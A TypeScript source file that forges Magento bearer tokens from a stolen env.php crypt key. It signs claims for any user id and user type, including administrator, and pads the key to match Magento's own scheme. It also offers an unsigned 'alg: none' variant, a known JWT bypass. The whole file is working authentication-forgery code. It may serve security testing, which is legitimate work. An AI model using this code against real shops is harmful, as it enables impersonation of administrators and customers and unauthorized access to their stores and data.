import { createHmac } from 'node:crypto';

/** User types as Magento writes them into a token. */
export const INTEGRATION = 1;
export const ADMIN = 2;
export const CUSTOMER = 3;

export interface Forging {
  /** crypt/key of env.php, as somebody who read that file has it */
  cryptKey: string;
  userId: number;
  userType: number;
  header?: Record<string, unknown>;
  claims?: Record<string, unknown>;
  algorithm?: 'HS256' | 'HS384' | 'HS512' | 'none';
}

/** A bearer token as Magento's own issuer would make it from the crypt key, made outside the shop. */
export function forgedJwt(forging: Forging): string {
  const algorithm = forging.algorithm ?? 'HS256';
  const now = Math.floor(Date.now() / 1000);
  const header = { kid: '1', alg: algorithm, ...forging.header };
  const claims = {
    uid: forging.userId,
    utypid: forging.userType,
    iat: now,
    exp: now + 3600,
    ...forging.claims,
  };
  const signed = `${encoded(header)}.${encoded(claims)}`;
  if (algorithm === 'none') {
    return `${signed}.`;
  }
  const hash = `sha${algorithm.slice(2)}`;
  const signature = createHmac(hash, padded(forging.cryptKey)).update(signed).digest('base64url');
  return `${signed}.${signature}`;
}

function encoded(value: Record<string, unknown>): string {
  return Buffer.from(JSON.stringify(value)).toString('base64url');
}

/** Magento fills its key up to 2048 bytes on both sides. */
function padded(key: string): string {
  const missing = 2048 - key.length;
  const left = Math.floor(missing / 2);
  return '&'.repeat(left) + key + '&'.repeat(missing - left);
}
